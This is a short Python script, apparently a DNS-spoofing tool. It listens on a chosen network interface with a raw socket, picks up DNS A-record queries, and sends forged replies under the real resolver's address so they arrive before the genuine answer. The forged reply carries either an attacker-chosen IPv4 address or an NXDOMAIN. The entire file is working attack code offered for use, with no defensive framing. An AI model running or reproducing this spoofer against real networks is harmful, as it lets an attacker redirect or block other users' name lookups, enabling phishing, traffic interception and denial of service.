"""Answers questions that pass by, before their resolver does: forger.py LINK ANSWER TTL.

It sees the questions for A on the link, and sends an answer under the resolver's address; ANSWER is an IPv4 address or "nxdomain".
The real answer follows.
"""

import socket
import struct
import sys

link, answer, ttl = sys.argv[1], sys.argv[2], int(sys.argv[3])
tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
tap.bind((link, 0))
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("ready", file=sys.stderr, flush=True)
while True:
    frame, (_, _, direction, *_) = tap.recvfrom(2048)
    ip = frame[14:]
    if direction == socket.PACKET_OUTGOING or ip[9] != 17:
        continue
    source, target, udp = ip[12:16], ip[16:20], ip[(ip[0] & 15) * 4:]
    query = udp[8:]
    if udp[2:4] != b"\0\x35" or query[2] & 0x80:
        continue
    end = 12
    while query[end]:
        end += query[end] + 1
    if query[end + 1:end + 3] != b"\0\x01":
        continue
    forged = answer != "nxdomain"
    record = struct.pack("!HHHIH", 0xc00c, 1, 1, 300, 4) + socket.inet_aton(answer) if forged else b""
    dns = query[:2] + struct.pack("!HHHHH", 0x8180 | (0 if forged else 3), 1, len(record) and 1, 0, 0) + query[12:end + 5] + record
    datagram = struct.pack("!HHHH", 53, struct.unpack("!H", udp[:2])[0], 8 + len(dns), 0) + dns
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0x4242, 0, ttl, 17, 0, target, source)
    out.sendto(head + datagram, (socket.inet_ntoa(source), 0))
